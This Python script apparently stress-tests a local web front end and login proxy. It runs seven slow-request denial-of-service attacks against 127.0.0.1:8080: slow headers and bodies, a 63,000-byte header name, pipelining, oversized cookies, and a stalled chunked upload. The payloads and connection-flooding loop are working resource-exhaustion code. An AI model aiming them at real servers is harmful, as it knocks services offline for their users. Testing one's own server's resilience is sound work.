"""front_attacker.py HOW CLIENTS SECONDS: attacks 127.0.0.1:8080 with CLIENTS connections, and replaces closed ones.

HOW is a key of ATTACKS.
"""

import contextlib
import json
import resource
import select
import socket
import sys
import time

HOST, WORKSHOP = b"launcher.example.org", b"w-abcdefghij.workshops.example.net"
# Session cookie that the login proxy of front_arena.py accepts.
SESSION = b"Cookie: session=1\r\n"


def head(method=b"GET", path=b"/", host=HOST, lines=b""):
    """Returns the head of a request without the empty line at its end."""
    return b"%s %s HTTP/1.1\r\nHost: %s\r\n%s" % (method, path, host, lines)


# {attack: (first bytes, repeated bytes, greedy)}. A client sends the first bytes once. A greedy client then sends the
# repeated bytes as fast as the server reads them, any other client once per second.
ATTACKS = {
    # One long header name: nginx stores the name twice, so these bytes take the most memory.
    "unfinished heads": (head(lines=b"N" * 63_000 + b": x\r\n"), b"", False),
    "slow heads": (head(lines=b"Y: " + b"v" * 60_000), b"v", False),
    "slow bodies": (head(b"POST", b"/", lines=b"Content-Length: 99999\r\n") + b"\r\nx", b"x", False),
    "slow logins": (head(b"POST", b"/oauth2/start", lines=b"Content-Length: 99999\r\n") + b"\r\nx", b"x", False),
    "pipelines": ((head() + b"\r\n") * 100, head() + b"\r\n", True),
    "cookies": ((head(lines=b"Cookie: " + b"c" * 60_000 + b"\r\n") + b"\r\n") * 4, b"", False),
    # A signed-in upload to the workshop of front_arena.py. This workshop sends endlessly and never reads.
    "stalled both ways": (
        head(b"POST", b"/", WORKSHOP, SESSION + b"Transfer-Encoding: chunked\r\n") + b"\r\n",
        b"10000\r\n" + b"b" * 65_536 + b"\r\n", True,
    ),
}


class Client:
    """One connection to the front, and the bytes that it still has to send."""

    def __init__(self, first):
        self.socket = socket.socket()
        self.socket.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            self.socket.connect(("127.0.0.1", 8080))
        self.left = first
        self.next = 0.0

    def send(self, again, greedy):
        """Sends remaining bytes. When none remain, adds `again`: immediately if greedy, else once per second."""
        if not self.left and again and (greedy or time.monotonic() >= self.next):
            self.left, self.next = again, time.monotonic() + 1
        for _ in range(4):
            if self.left:
                self.left = self.left[self.socket.send(self.left):]
            if not self.left and greedy:
                self.left = again


def attack(how, clients, seconds):
    """Runs an attack with this number of connections. Returns the number of connections that are open at the end."""
    first, again, greedy = ATTACKS[how]
    events, held, opened = select.epoll(), {}, 0
    began = time.monotonic()
    end = began + seconds

    def open_one():
        client = Client(first)
        held[client.socket.fileno()] = client
        events.register(client.socket, select.EPOLLOUT | select.EPOLLRDHUP)

    def close(client):
        del held[client.socket.fileno()]
        client.socket.close()

    while time.monotonic() < end:
        # Opens the connections evenly over four seconds.
        for _ in range(min(clients - len(held), int((time.monotonic() - began) * clients / 4) + 1 - opened)):
            open_one()
            opened += 1
        for descriptor, event in events.poll(0.02):
            client = held[descriptor]
            try:
                if event & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
                    raise OSError
                client.send(again, greedy)
                if not client.left:
                    events.modify(descriptor, select.EPOLLRDHUP)
            except BlockingIOError:
                pass
            except OSError:
                close(client)
        if again and not greedy:
            for client in list(held.values()):
                try:
                    client.send(again, greedy)
                except BlockingIOError:
                    pass
                except OSError:
                    close(client)
    return len(held)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
